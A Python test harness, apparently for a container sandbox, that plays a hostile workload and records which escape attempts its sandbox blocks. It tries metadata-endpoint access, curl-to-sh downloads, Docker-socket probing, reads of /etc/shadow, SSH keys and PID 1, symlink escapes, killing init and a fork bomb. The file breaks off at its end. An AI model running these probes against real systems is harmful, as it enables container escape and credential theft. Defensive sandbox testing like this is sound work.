"""A hostile workload: tries to leave its sandbox, to read what is not its own,
to outlive its run, and to use more than it was given.

    inside.py attempts   try everything once
    inside.py residue    look for what an earlier run left, then leave as much
    inside.py daemons    leave processes behind and exit
    inside.py NAME       memory, processes, disk, flood, clock, kill-init: run into one limit

A second argument is a JSON object with what only the host knows: files,
addresses, a tag. The first two print one JSON list on the last line; each entry is {"control", "name", "result"}, the result "ok" when the attempt
succeeded, else the error. Names begin with "may" (the contract gives it) or "no"
(nothing gives it).
"""
import ctypes, errno, fcntl, glob, json, os, re, resource, signal, socket, stat, subprocess, sys, threading, time

libc = ctypes.CDLL(None, use_errno=True)
got = []
given = json.loads(sys.argv[2]) if len(sys.argv) > 2 else {}
tag = given.get("tag", "untagged")
roots = ("/workspace", "/tmp", "/home/agent", "/dev/shm")
# The secrets that a drill plants on the host. Written so that this program does
# not find itself.
planted = re.compile(b"drill-secret" + b"-[0-9a-f]{32}")
control = ""


def section(name):
    global control
    control = name


def attempt(name, do):
    try:
        answer = do()
        answer = answer if isinstance(answer, str) else "ok"
    except subprocess.TimeoutExpired as e:
        answer = "not tried to its end: " + repr(e)
    except FileNotFoundError as e:
        # A program is named without a slash, a file never is.
        name_only = isinstance(e.filename, str) and "/" not in e.filename
        answer = "not tried: there is no " + e.filename if name_only else "ENOENT"
    except OSError as e:
        answer = errno.errorcode.get(e.errno, str(e)) if e.errno else str(e)
    except Exception as e:
        answer = repr(e)
    got.append({"control": control, "name": name, "result": answer})


def need(condition):
    if not condition:
        raise OSError(errno.ENOENT, "not so")


def call(nr, *args):
    ctypes.set_errno(0)
    answer = libc.syscall(ctypes.c_long(nr), *[ctypes.c_long(a) if isinstance(a, int) else a for a in args])
    if answer == -1:
        raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))


def libc_call(function, *args):
    ctypes.set_errno(0)
    if function(*args) == -1:
        raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))


def dial(family, kind, address):
    with socket.socket(family, kind) as s:
        s.settimeout(2)
        s.connect(address)
        if kind == socket.SOCK_DGRAM:
            s.send(b"x")


def create(path):
    def do():
        name = os.path.join(path, "countersign-was-here")
        with open(name, "w") as f:
            f.write("x")
        os.remove(name)
    return do


def read(path):
    def do():
        with open(path, "rb") as f:
            need(f.read(64))
    return do


def listing(path):
    return lambda: need(os.listdir(path))


def git(*args):
    return subprocess.run(("git",) + args, capture_output=True, cwd="/workspace").stdout


def files_below(tops, depth=8):
    for top in tops:
        for at, dirs, files in os.walk(top):
            if at.count("/") >= depth:
                dirs.clear()
            for name in files:
                yield os.path.join(at, name)


# -- the network

def network():
    section("no network interface")
    attempt("no interface beside lo", lambda: need([n for _, n in socket.if_nameindex() if n != "lo"]))
    attempt("no route", lambda: need(len(open("/proc/net/route").read().splitlines()) > 1))
    attempt("no route over IPv6", lambda: need([l for l in open("/proc/net/ipv6_route") if l.split()[-1] != "lo"]))

    section("unknown host")
    for name in ("example.com", "canary.internal", "host.docker.internal", "github.com", "xn--nxasmq6b.example", "localhost.example.com"):
        attempt("no look-up of " + name, lambda: socket.getaddrinfo(name, 443))
    for host in ("192.0.2.1", "198.51.100.1", "8.8.8.8", "1.1.1.1"):
        tcp_and_udp(host, 443)
    for server in ("8.8.8.8", "172.17.0.1", "127.0.0.11"):
        attempt("no name server " + server, lambda: ask_name_server(server))
    attempt("no tcp over IPv6", lambda: dial(socket.AF_INET6, socket.SOCK_STREAM, ("2001:db8::1", 443)))

    section("private address")
    for host, port in (("172.17.0.1", 22), ("172.17.0.1", 2375), ("10.0.0.1", 53), ("192.168.0.1", 80), ("100.64.0.1", 80)):
        tcp_and_udp(host, port)
    for port in (22, 2375, 2376, 5432, 6379):
        attempt("no tcp 127.0.0.1:%d" % port, lambda: dial(socket.AF_INET, socket.SOCK_STREAM, ("127.0.0.1", port)))
    attempt("no tcp over IPv6 to a private network", lambda: dial(socket.AF_INET6, socket.SOCK_STREAM, ("fd00::1", 443)))
    attempt("no tcp over IPv6 to the link", lambda: dial(socket.AF_INET6, socket.SOCK_STREAM, ("fe80::1", 443)))
    for host, port in given.get("listeners", []):
        attempt("no tcp to the drill's own listener at %s:%d" % (host, port), lambda: dial(socket.AF_INET, socket.SOCK_STREAM, (host, port)))
    if given.get("abstract"):
        attempt("no abstract socket of the host", lambda: dial(socket.AF_UNIX, socket.SOCK_STREAM, "\0" + given["abstract"]))

    section("metadata address")
    for host in ("169.254.169.254", "169.254.170.2", "100.100.100.200", "192.0.0.192"):
        tcp_and_udp(host, 80)
    attempt("no look-up of metadata.google.internal", lambda: socket.getaddrinfo("metadata.google.internal", 80))
    for host in ("fd00:ec2::254", "fd20:ce::254", "::ffff:169.254.169.254"):
        attempt("no tcp [%s]:80" % host, lambda: dial(socket.AF_INET6, socket.SOCK_STREAM, (host, 80)))
    for host in ("2852039166", "0xA9FEA9FE", "0251.0376.0251.0376"):
        attempt("no tcp to 169.254.169.254 as " + host, lambda: dial(socket.AF_INET, socket.SOCK_STREAM, (host, 80)))

    section("socket families")
    attempt("no raw socket", lambda: socket.socket(socket.AF_INET, socket.SOCK_RAW, 1))
    attempt("no packet socket", lambda: socket.socket(17, socket.SOCK_RAW, 3))
    attempt("no ping socket", lambda: socket.socket(socket.AF_INET, socket.SOCK_DGRAM, 1))
    attempt("no vsock", lambda: socket.socket(40, socket.SOCK_STREAM))
    attempt("no kernel crypto socket", lambda: socket.socket(38, socket.SOCK_SEQPACKET))
    attempt("no netfilter netlink", lambda: socket.socket(16, socket.SOCK_RAW, 12))
    attempt("no multipath tcp", lambda: socket.socket(socket.AF_INET, socket.SOCK_STREAM, 262))


def tcp_and_udp(host, port):
    attempt("no tcp %s:%d" % (host, port), lambda: dial(socket.AF_INET, socket.SOCK_STREAM, (host, port)))
    attempt("no udp %s:%d" % (host, port), lambda: dial(socket.AF_INET, socket.SOCK_DGRAM, (host, port)))


def ask_name_server(server):
    question = b"\x12\x34\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00\x07example\x03com\x00\x00\x01\x00\x01"
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
        s.settimeout(1)
        s.connect((server, 53))
        s.send(question)
        s.recv(512)


def download():
    section("piped download into a shell")
    urls = ["http://example.com/install.sh", "https://example.com/install.sh", "http://192.0.2.1/install.sh", "http://169.254.169.254/latest/user-data"]
    urls += ["http://%s:%d/install.sh" % (h, p) for h, p in given.get("listeners", [])]
    mark = "/tmp/drill-download-ran"
    for url in urls:
        for how, text in (
            ("curl", 'curl -fsS --max-time 3 --noproxy "*" "$0" | sh'),
            ("python", "python3 -c 'import sys, urllib.request; sys.stdout.buffer.write(urllib.request.urlopen(sys.argv[1], timeout=3).read())' \"$0\" | sh"),
        ):
            attempt("no %s %s | sh" % (how, url), lambda: piped(text, url, mark))
    with_git = ["git", "-c", "http.connectTimeout=3", "ls-remote", "https://example.com/x.git"]
    attempt("no git ls-remote over https", lambda: need(subprocess.run(with_git, capture_output=True, timeout=20).returncode == 0))
    # The shell itself is allowed: what came from outside is what must be missing.
    attempt("may pipe what it has into a shell", lambda: piped("echo touch %s | sh" % mark, "", mark))


def piped(text, url, mark):
    if os.path.exists(mark):
        os.remove(mark)
    subprocess.run(["sh", "-c", text, url], capture_output=True, timeout=15, stdin=subprocess.DEVNULL)
    need(os.path.exists(mark))


# -- the engine, under any name

def engine():
    section("Docker's socket")
    for path in ("/var/run/docker.sock", "/run/docker.sock", "/run/containerd/containerd.sock", "/run/podman/podman.sock", "/run/countersign/docker.sock", "/proc/1/root/var/run/docker.sock"):
        attempt("no engine at " + path, lambda: dial(socket.AF_UNIX, socket.SOCK_STREAM, path))
    attempt("no socket anywhere that answers", any_socket)
    attempt("no second control connection", lambda: dial(socket.AF_UNIX, socket.SOCK_STREAM, "/run/countersign/control.sock"))
    attempt("no socket of an engine in the mount table", lambda: need([l for l in open("/proc/self/mountinfo") if ".sock" in l]))


def any_socket():
    for p in files_below(("/run", "/var/run", "/tmp", "/home", "/countersign", "/workspace", "/dev/shm", "/etc", "/opt", "/srv", "/mnt")):
        try:
            if stat.S_ISSOCK(os.lstat(p).st_mode):
                dial(socket.AF_UNIX, socket.SOCK_STREAM, p)
                return "ok"
        except OSError:
            pass
    raise OSError(errno.ENOENT, "none")


# -- who it is, and what it may call

def identity():
    section("privileges")
    status = dict(line.split(":\t", 1) for line in open("/proc/self/status").read().splitlines() if ":\t" in line)
    attempt("no root", lambda: need(0 in (os.getuid(), os.geteuid(), os.getgid())))
    attempt("no group of root or docker", lambda: need([g for g in os.getgroups() if g != os.getgid()]))
    attempt("no capability", lambda: need([k for k in ("CapInh", "CapPrm", "CapEff", "CapBnd", "CapAmb") if int(status.get(k, "0"), 16)]))
    attempt("may rely on no_new_privs", lambda: need(libc.prctl(39, 0, 0, 0, 0) == 1))  # PR_GET_NO_NEW_PRIVS
    attempt("may rely on seccomp", lambda: need(status["Seccomp"].strip() == "2"))
    attempt("no setuid", lambda: os.setuid(0))
    attempt("no setgid", lambda: os.setgid(0))
    for path in ("/usr/bin/su", "/bin/su", "/usr/bin/passwd", "/usr/bin/newgrp"):
        attempt("no privilege by " + path, lambda: need(subprocess.run([path, "-c", "id -u"], capture_output=True, timeout=5, stdin=subprocess.DEVNULL).stdout.strip() == b"0"))
    attempt("no set-uid program of its own", lambda: (open("/tmp/s", "w").close(), os.chmod("/tmp/s", 0o4755), need(subprocess.run(["sh", "-c", "cp /bin/cat /tmp/s2 && chmod 6755 /tmp/s2 && /tmp/s2 /proc/self/status | grep -q '^Uid:.*[[:space:]]0[[:space:]]'"]).returncode == 0)))


# x86-64 numbers; on other machines the canaries alone try these.
CALLS = (
    ("ptrace", 101, (16, 1, 0, 0)), ("process_vm_readv", 310, (1, 0, 0, 0, 0, 0)), ("mount", 165, (0, 0, 0, 0, 0)),
    ("umount2", 166, (b"/proc", 2)), ("unshare user", 272, (0x10000000,)), ("unshare net", 272, (0x40000000,)), ("unshare mount", 272, (0x20000,)),
    ("setns", 308, (0, 0)), ("bpf", 321, (0, 0, 0)), ("perf_event_open", 298, (0, 0, -1, -1, 0)), ("keyctl", 250, (0, -3, 1)),
    ("io_uring_setup", 425, (1, 0)), ("userfaultfd", 323, (0,)), ("init_module", 175, (0, 0, b"")), ("kexec_load", 246, (0, 0, 0, 0)),
    ("chroot", 161, (b"/",)), ("pivot_root", 155, (b"/", b"/")), ("open_by_handle_at", 304, (0, 0, 0)), ("clone3", 435, (0, 0)),
    ("kcmp", 312, (1, 1, 0, 0, 0)), ("pidfd_getfd", 438, (0, 0, 0)), ("swapon", 167, (b"/", 0)), ("sethostname", 170, (b"x", 1)),
    ("settimeofday", 164, (0, 0)), ("syslog", 103, (3, 0, 0)), ("modify_ldt", 154, (0, 0, 0)), ("msgget", 68, (0, 0o1600)),
)


def calls():
    section("refused system calls")
    if os.uname().machine == "x86_64":
        for name, nr, args in CALLS:
            attempt("no call " + name, lambda: call(nr, *args))
    attempt("no device node", lambda: os.mknod("/tmp/null", 0o600 | stat.S_IFCHR, os.makedev(1, 3)))


# -- files

def files():
    section("writing outside")
    for path in ("/", "/etc", "/usr", "/usr/local/bin", "/usr/bin", "/var", "/var/tmp", "/root", "/home", "/opt", "/run", "/countersign", "/countersign/bin", "/run/countersign", "/dev", "/sys", "/proc/sys/kernel", "/sys/fs/cgroup", "/mnt", "/srv", "/lib"):
        attempt("no write in " + path, create(path))
    attempt("no write to the shim", lambda: open("/countersign/shim", "ab"))
    if given.get("image_denied", True):  # where paths are masked at all
        attempt("no part of /proc that is not read-only", lambda: need({"/proc/" + d for d in ("bus", "fs", "irq", "sys", "sysrq-trigger") if os.path.exists("/proc/" + d)} - read_only()))
    attempt("no write to /etc/passwd", lambda: open("/etc/passwd", "ab"))
    attempt("no write to /etc/resolv.conf", lambda: open("/etc/resolv.conf", "ab"))
    for path in ("/proc/sys/kernel/core_pattern", "/proc/sys/vm/drop_caches", "/proc/sysrq-trigger", "/proc/sys/kernel/modprobe"):
        attempt("no write to " + path, lambda: open(path, "w"))

    section("what the contract gives")
    for path in roots:
        attempt("may write in " + path, create(path))
    attempt("may read the rest of the workspace", read("/workspace/keys.txt"))
    attempt("may execute the workspace's scripts", lambda: need(subprocess.run(["./scripts/build.sh"], capture_output=True, cwd="/workspace").stdout == b"built\n"))
    attempt("may see a clean git tree", lambda: need(git("status", "--porcelain") == b""))
    attempt("may see the contract's variable", lambda: need(os.environ.get("CI") == "1"))

    attempt("may make a thread", threads)

    section("reading a private key")
    attempt("no key of the host", lambda: need(glob.glob("/root/.ssh/*") + glob.glob("/home/*/.ssh/*") + glob.glob("/root/.docker/*") + glob.glob("/root/.config/*") + glob.glob("/etc/ssh/ssh_host_*") + glob.glob("/root/.gnupg/*") + glob.glob("/root/.aws/*")))
    attempt("no /etc/shadow", read("/etc/shadow"))
    attempt("no denied file of the workspace", read("/workspace/keys/deploy.pem"))
    attempt("no denied file by another spelling", read("/workspace/./scripts/../keys//deploy.pem"))
    attempt("no denied file by a link", by_link)
    attempt("no denied file in git", lambda: need(b"deploy.pem" in git("ls-tree", "-r", "HEAD")))
    attempt("no denied file among git's objects", denied_object)
    if given.get("image_denied", True):  # where a contract can deny it
        attempt("no denied directory of the image", listing("/usr/share/perl5"))
        attempt("no denied file of the image", read("/etc/debian_version"))
    for path in given.get("host_files", []):
        attempt("no file that the drill planted at " + path, read(path))
        attempt("no such file below PID 1's root: " + path, read("/proc/1/root" + path))
    attempt("no agent of keys", lambda: need([k for k in ("SSH_AUTH_SOCK", "SSH_AGENT_PID", "GPG_AGENT_INFO", "GIT_ASKPASS") if k in os.environ]))


def read_only():
    """The mounts that cannot be written, as the mount table has them."""
    return {fields[4] for fields in map(str.split, open("/proc/self/mountinfo")) if "ro" in fields[5].split(",")}


def by_link():
    os.symlink("../workspace/keys/deploy.pem", "/tmp/k")
    read("/tmp/k")()


def denied_object():
    """The object that git would have for the denied file, and any other with a planted secret."""
    for line in git("cat-file", "--batch-all-objects", "--batch-check").splitlines():
        sha, kind, _ = line.split()
        if kind == b"blob" and planted.search(git("cat-file", "blob", sha.decode())):
            return "ok"
    raise OSError(errno.ENOENT, "none")


def links():
    section("links out of the workspace")
    attempt("no hard link to a file outside", lambda: os.link("/etc/passwd", "/workspace/hard"))
    for name, target in (("absolute", "/etc/shadow"), ("relative", "../../../etc/shadow"), ("dir", "/root/.ssh"), ("proc", "/proc/1/root/etc/shadow"), ("self", "/proc/self/root/root/.ssh")):
        link = "/workspace/link-" + name
        attempt("may make a link to " + target, lambda: os.symlink(target, link))
        attempt("no reading through that link to " + target, listing(link) if "ssh" in target else read(link))
    attempt("no writing through a link to /etc", lambda: (os.symlink("/etc", "/workspace/link-etc"), create("/workspace/link-etc")()))
    attempt("no following of magic links of PID 1", lambda: need(os.readlink("/proc/1/cwd")))
    # What the host must not follow when it collects: judged by the patch.
    for i, target in enumerate(given.get("host_files", []) + ["/etc/passwd", "/", "/proc/self/environ"]):
        os.symlink(target, "/workspace/collect-%d" % i)
    os.mkfifo("/workspace/collect-fifo")
    with socket.socket(socket.AF_UNIX) as s:
        s.bind("/workspace/collect-socket")
    os.rename("/workspace/scripts", "/workspace/scripts.was")
    os.symlink(os.path.dirname((given.get("host_files") or ["/etc/passwd"])[0]), "/workspace/scripts")


def mounts():
    section("mount crossing")
    attempt("no remount of the root", lambda: libc_call(libc.mount, b"none", b"/", None, 32, None))  # MS_REMOUNT
    attempt("no bind mount", lambda: libc_call(libc.mount, b"/workspace", b"/mnt", None, 4096, None))  # MS_BIND
    attempt("no unmounting of /tmp", lambda: libc_call(libc.umount2, b"/tmp", 2))  # MNT_DETACH
    attempt("no namespace of its own to mount in", lambda: need(subprocess.run(["unshare", "-Urm", "true"], capture_output=True).returncode == 0))
    attempt("no directory of the host named in the mount table", host_directories)
    attempt("no way up from a mount", lambda: need(os.path.exists("/workspace/../../../../var/lib/docker") or os.path.exists("/workspace/../run/docker")))
    attempt("no disk", lambda: need(sum(1 for d in glob.glob("/dev/*") if stat.S_ISBLK(os.lstat(d).st_mode))))
    for path in ("/dev/mem", "/dev/kmsg", "/dev/sda", "/dev/vda", "/dev/fuse", "/dev/kvm", "/dev/net/tun"):
        attempt("no read of " + path, read(path))
    attempt("no interface by /dev/net/tun", lambda: fcntl.ioctl(os.open("/dev/net/tun", os.O_RDWR), 0x400454CA, b"drill0".ljust(16, b"\0") + b"\x01\x10".ljust(24, b"\0")))
    attempt("no device beyond the harmless", lambda: need(set(os.listdir("/dev")) - {"core", "fd", "full", "mqueue", "null", "ptmx", "pts", "random", "shm", "stderr", "stdin", "stdout", "tty", "urandom", "zero"}))


def host_directories():
    """Every host path that the mount table gives away, tried as a path."""
    seen = set()
    for line in open("/proc/self/mountinfo"):
        fields = line.split()
        for path in [fields[3]] + re.findall(r"(?:upperdir|lowerdir|workdir)=([^,:]+)", line):
            if path.startswith(("/var/lib/docker", "/var/lib/countersign", "/run/docker")):
                seen.add(path)
    for path in seen:
        if os.path.exists(path):
            return "ok"
    raise OSError(errno.ENOENT, "none of %d" % len(seen))


def temporary():
    section("temporary directory")
    attempt("no file of the host's temporary directory", lambda: need([p for p in given.get("host_tmp", []) if os.path.lexists(p)]))
    attempt("no set-uid bit with effect, no device in /tmp", lambda: need(not flagged("/tmp")))
    attempt("may leave files there for the host not to see", lambda: [open(d + "/drill-left-" + tag, "w").close() for d in ("/tmp", "/dev/shm", "/home/agent")] and "ok")
    attempt("no other temporary directory", create("/var/tmp"))


def flagged(path):
    # gVisor does not show the flags; a device node and a set-uid program are
    # tried elsewhere, this is what the kernel says of the mount.
    flags = os.statvfs(path).f_flag
    return flags & os.ST_NOSUID and flags & 4  # ST_NODEV


# -- processes

def processes():
    section("PID 1")
    for path in ("environ", "mem", "maps", "exe", "root/etc/passwd"):
        attempt("no read of PID 1's " + path, read("/proc/1/" + path))
    for path in ("fd", "cwd", "root"):
        attempt("no listing of PID 1's " + path, listing("/proc/1/" + path))
    attempt("no opening of PID 1's connection", control_connection)
    attempt("no limit of PID 1", lambda: resource.prlimit(1, resource.RLIMIT_NOFILE, (1, 1)))
    if not given.get("spare_init"):
        attempt("no end of PID 1", end_init)

    section("child process")
    attempt("no other process", lambda: need([p for p in os.listdir("/proc") if p.isdigit() and int(p) not in (1, os.getpid()) and not mine(p)]))
    attempt("no process of the host by number", lambda: need([p for p in given.get("host_pids", []) if os.path.exists("/proc/%d" % p) and comm(p) not in ("shim", "python3", "sh")]))
    attempt("no child without no_new_privs", lambda: need(subprocess.run(["setsid", sys.executable, "-c", "import ctypes; print(ctypes.CDLL(None).prctl(39, 0, 0, 0, 0))"], capture_output=True).stdout.strip() != b"1"))
    attempt("no child with a capability", lambda: need(re.search(rb"Cap(Prm|Eff|Bnd):\t0*[1-9a-f]", subprocess.run(["cat", "/proc/self/status"], capture_output=True).stdout)))


def comm(pid):
    try:
        return open("/proc/%s/comm" % pid).read().strip()
    except OSError:
        return ""


def mine(pid):
    """Whether it is of this session, as what an attempt has left to end is, or gone."""
    try:
        return int(open("/proc/%s/stat" % pid).read().rsplit(")", 1)[1].split()[3]) == os.getsid(0)
    except OSError:
        return True


def control_connection():
    for fd in os.listdir("/proc/1/fd"):
        if os.readlink("/proc/1/fd/" + fd).startswith("socket:"):
            os.close(os.open("/proc/1/fd/" + fd, os.O_RDWR))
            return "ok"
    raise OSError(errno.ENOENT, "none")


def threads():
    ran = []
    t = threading.Thread(target=ran.append, args=(1,))
    t.start()
    t.join()
    need(ran)


def end_init():
    # SIGTERM and SIGINT ask the shim to end the workload, which this program
    # could do by itself: they are left out.
    for s in [s for s in range(1, 32) if s not in (signal.SIGTERM, signal.SIGINT)]:
        try:
            os.kill(1, s)
        except OSError:
            pass
    return "PID 1 is there" if os.path.exists("/proc/1/comm") else "ok"


# -- the host, its secrets

def host():
    section("the host's kernel and settings")
    for path in ("/proc/kcore", "/proc/kallsyms", "/proc/config.gz", "/proc/keys", "/proc/timer_list", "/proc/cmdline", "/sys/firmware/dmi/tables/DMI", "/proc/iomem", "/proc/sched_debug"):
        attempt("no read of " + path, read(path))
    attempt("no host name", lambda: need(given.get("hostname") and socket.gethostname() == given["hostname"]))
    attempt("no name server of the host", lambda: need([l for l in open("/etc/resolv.conf") if l.startswith("nameserver") and l.split()[1] != "127.0.0.1"]))

    section("secrets of the host")
    attempt("no variable of the host", lambda: need([k for k, v in os.environ.items() if "hunter2" in v or k in ("SUPER_SECRET", "AWS_SECRET_ACCESS_KEY", "SSH_AUTH_SOCK", "DOCKER_HOST", "COUNTERSIGN_STATE_DIR", "COUNTERSIGN_CONFIG_DIR")]))
    attempt("no planted secret in any environment", lambda: need([p for p in glob.glob("/proc/[0-9]*/environ") if has_secret(p)]))
    attempt("no planted secret in any command line", lambda: need([p for p in glob.glob("/proc/[0-9]*/cmdline") if has_secret(p)]))
    attempt("no planted secret in any file", lambda: need([p for p in files_below(("/workspace", "/tmp", "/home", "/root", "/etc", "/run", "/dev/shm", "/var", "/opt", "/srv", "/mnt", "/countersign")) if small(p) and has_secret(p)]))
    attempt("no history of a shell", lambda: need(glob.glob("/root/.*history") + glob.glob("/home/*/.*history") + glob.glob("/root/.lesshst") + glob.glob("/root/.viminfo")))
    attempt("no git remote", lambda: need(git("remote")))
    attempt("no git history", lambda: need(len(git("rev-list", "--all").splitlines()) != 1))
    attempt("no credential for git", lambda: need(glob.glob("/home/agent/.git-credentials") + glob.glob("/home/agent/.netrc") + glob.glob("/root/.netrc") + glob.glob("/home/agent/.docker/*")))
    attempt("no cache of an earlier build", lambda: need(glob.glob("/root/.cache/*") + glob.glob("/home/agent/.cache/*") + glob.glob("/var/cache/apt/archives/*.deb")))

    section("core dumps")
    attempt("no limit above zero", lambda: need(resource.getrlimit(resource.RLIMIT_CORE) != (0, 0)))
    attempt("no raising of the limit", lambda: resource.setrlimit(resource.RLIMIT_CORE, (1 << 20, 1 << 20)))
    attempt("no core of a process that crashed", crash)


def small(path):
    try:
        s = os.lstat(path)
        return stat.S_ISREG(s.st_mode) and s.st_size < 1 << 20
    except OSError:
        return False


def has_secret(path):
    try:
        with open(path, "rb") as f:
            return planted.search(f.read(1 << 20))
    except OSError:
        return False


def crash():
    before = set(files_below(("/workspace", "/tmp", "/dev/shm", "/home/agent"), 3))
    pid = os.fork()
    if pid == 0:
        os.chdir("/tmp")
        os.kill(os.getpid(), signal.SIGSEGV)
        os._exit(0)
    _, status = os.waitpid(pid, 0)
    if [p for p in set(files_below(("/workspace", "/tmp", "/dev/shm", "/home/agent"), 3)) - before if "core" in os.path.basename(p)]:
        return "ok"
    if os.WCOREDUMP(status):
        handler = open("/proc/sys/kernel/core_pattern").read().strip()
        return "handed to " + handler if handler.startswith("|") else "ok"
    raise OSError(errno.ENOENT, "none")


# -- bounds that an attempt can find without ending the run

def bounds():
    section("temporary space")
    for path, limit in sorted(given.get("bytes", {}).items()):
        attempt("no more than %d bytes in %s" % (limit, path), lambda: fill(path, limit))
    section("inode limits")
    for path, limit in sorted(given.get("inodes", {}).items()):
        attempt("no more than %d files in %s" % (limit, path), lambda: many(path, limit))
    section("file size and open files")
    attempt("no file of a terabyte", giant)
    attempt("no more than 8192 open files", open_files)


def fill(path, limit):
    name = os.path.join(path, "drill-fill")
    try:
        with open(name, "wb", buffering=0) as f:
            block = b"x" * (1 << 18)
            written = 0
            while written <= limit:
                written += f.write(block)
    finally:
        if os.path.exists(name):
            os.remove(name)


def many(path, limit):
    base = os.path.join(path, "drill-many")
    os.mkdir(base)
    made = 0
    try:
        for i in range(limit + 1):
            os.close(os.open(os.path.join(base, str(i)), os.O_CREAT | os.O_WRONLY))
            made += 1
    finally:
        for i in range(made):
            os.remove(os.path.join(base, str(i)))
        os.rmdir(base)


def giant():
    signal.signal(signal.SIGXFSZ, signal.SIG_IGN)
    try:
        with open("/workspace/drill-giant", "wb") as f:
            f.truncate(1 << 40)
    finally:
        os.remove("/workspace/drill-giant")


def open_files():
    held = []
    try:
        while len(held) <= 8192:
            held.append(os.open("/dev/null", os.O_RDONLY))
    finally:
        for fd in held:
            os.close(fd)


def show():
    """Has the host look at the running container: the drill reads no more until
    it has, and this much output does not fit between the two."""
    print("drill: look now", flush=True)
    line = "." * 1023 + "\n"
    for _ in range(given.get("show_kib", 0)):
        sys.stdout.write(line)
    sys.stdout.flush()


def attempts():
    if given.get("show_kib"):
        show()
    for part in (identity, calls, files, network, download, engine, mounts, temporary, processes, host, bounds, links):
        part()


# -- residue

LEAVE = (
    "/workspace/{}", "/workspace/.git/{}", "/workspace/.git/hooks/{}", "/workspace/.git/info/{}", "/tmp/{}", "/tmp/.X11-unix/{}", "/home/agent/{}",
    "/home/agent/.ssh/{}", "/home/agent/.cache/pip/{}", "/home/agent/.cache/go-build/{}", "/home/agent/.npm/{}", "/home/agent/.config/git/{}",
    "/home/agent/.local/bin/{}", "/home/agent/go/pkg/mod/{}", "/home/agent/.cargo/registry/{}", "/dev/shm/{}", "/dev/mqueue/{}",
    "/usr/local/bin/{}", "/usr/bin/{}", "/usr/local/go/bin/{}", "/countersign/bin/{}", "/run/countersign/{}", "/var/tmp/{}", "/var/cache/{}", "/etc/{}", "/root/{}", "/run/{}",
)
MARK = "drill-residue-"
SHM_KEY = 0x0C5D1


def leave():
    """Puts a marker in every place, and says where that succeeded."""
    left = []
    for place in LEAVE:
        path = place.format(MARK + tag)
        try:
            os.makedirs(os.path.dirname(path), exist_ok=True)
            with open(path, "w") as f:
                f.write(MARK + tag)
            left.append(path)
        except OSError:
            pass
    for name in (".gitconfig", ".bashrc", ".profile", ".npmrc", ".netrc", ".bash_history"):
        with open("/home/agent/" + name, "a") as f:
            f.write("# %s%s\n" % (MARK, tag))
        left.append("/home/agent/" + name)
    for name in ("config", "HEAD.lock", "packed-refs"):
        with open("/workspace/.git/" + name, "a") as f:
            f.write("# %s%s\n" % (MARK, tag))
        left.append("/workspace/.git/" + name)
    if libc.shmget(SHM_KEY, 4096, 0o1600) >= 0:
        left.append("shared memory of System V")
    return left


def find():
    """Every marker that is there, whoever left it."""
    found = []
    tops = roots + ("/usr/local/bin", "/usr/bin", "/usr/local/go/bin", "/countersign", "/run", "/var", "/etc", "/root", "/dev/mqueue")
    for path in files_below(tops, 7):
        if MARK in path or small(path) and not path.startswith("/workspace/inside") and marked(path):
            found.append(path)
    if libc.shmget(SHM_KEY, 4096, 0) >= 0:
        found.append("shared memory of System V")
    if any(MARK in v for v in os.environ.values()):
        found.append("environment")
    return sorted(found)


def marked(path):
    try:
        with open(path, "rb") as f:
            return (MARK + "tag-").encode() in f.read(1 << 20)
    except OSError:
        return False


def residue():
    section("residue of an earlier run")
    before = find()
    attempt("no marker of an earlier run", lambda: "ok: " + " ".join(before[:5]) if before else "none")
    left = leave()
    missed = [p for p in left if p not in find()]
    attempt("may leave markers, and find all of its own", lambda: need(not missed and len(left) >= 20))
    attempt("no marker outside the writable roots", lambda: need([p for p in left if p.startswith("/") and not p.startswith(roots) and not p.startswith("/dev/mqueue")]))
    attempt("no helper of an earlier run on PATH", lambda: need([d for d in os.environ["PATH"].split(":") if d.startswith(roots)]))
    attempt("no setting of git", lambda: need(subprocess.run(["git", "config", "--global", "--list"], capture_output=True, env={**os.environ, "HOME": "/nowhere"}).stdout))


# -- processes that stay

def linger(then):
    """Leaves a daemon that ignores every signal it can and does then()."""
    if os.fork() != 0:
        return
    os.setsid()
    if os.fork() != 0:
        os._exit(0)
    for s in range(1, 32):
        try:
            signal.signal(s, signal.SIG_IGN)
        except (OSError, ValueError):
            pass
    null = os.open("/dev/null", os.O_RDWR)
    for fd in (0, 1, 2):
        os.dup2(null, fd)
    then()


def idle():
    while True:
        time.sleep(1)


def count():
    """Writes one number after the other into two files, always the first file
    first. In a tree where nothing runs any more the second is equal or one
    behind; a tree that is read while this lives shows a later number in what is
    read last."""
    first = os.open("/workspace/00-count", os.O_CREAT | os.O_WRONLY)
    last = os.open("/workspace/zz-count", os.O_CREAT | os.O_WRONLY)
    n = 0
    while True:
        n += 1
        for fd in (first, last):
            os.pwrite(fd, b"%016d\n" % n, 0)


def daemons():
    for i in range(200):  # between the two files of count
        with open("/workspace/ballast-%d" % i, "w") as f:
            f.write("x" * 4096)
    linger(idle)
    linger(count)
    while not os.path.exists("/workspace/zz-count"):
        time.sleep(0.01)
    print("daemons are there", flush=True)


# -- limits that end a run

# Each stops by itself far beyond its limit: a drill that finds a control broken
# must not take the machine with it.

def memory():
    held = []
    while len(held) < 64:  # 1 GiB
        held.append(bytearray(os.urandom(4096)) * 4096)


def fork_bomb():
    children = 0
    try:
        while children < 1000:
            if os.fork() == 0:
                signal.signal(signal.SIGTERM, signal.SIG_IGN)
                time.sleep(3600)
            children += 1
    except OSError as e:
        sys.exit("after %d processes: %s" % (children, e))


def disk():
    with open("/workspace/big", "wb") as f:
        for _ in range(256):
            f.write(b"x" * (1 << 20))


def flood():
    block = ("flood " * 170 + "\n").encode()
    for _ in range(given.get("flood_kib", 1024)):
        sys.stdout.buffer.write(block)
    sys.stdout.flush()


def clock():
    signal.signal(signal.SIGTERM, signal.SIG_IGN)
    linger(idle)
    with open("/workspace/before-the-end", "w") as f:
        f.write("written in time\n")
    end = time.monotonic() + 30
    while time.monotonic() < end:
        pass


def kill_init():
    os.kill(1, signal.SIGKILL)
    time.sleep(30)
    print("PID 1 is there")


VERBS = {
    "attempts": attempts, "residue": residue, "daemons": daemons, "memory": memory, "processes": fork_bomb, "disk": disk,
    "flood": flood, "clock": clock, "kill-init": kill_init,
}


def main(verbs):
    verb = sys.argv[1] if len(sys.argv) > 1 else ""
    if verb not in verbs:
        sys.exit("usage: %s %s" % (sys.argv[0], "|".join(verbs)))
    verbs[verb]()
    if got:
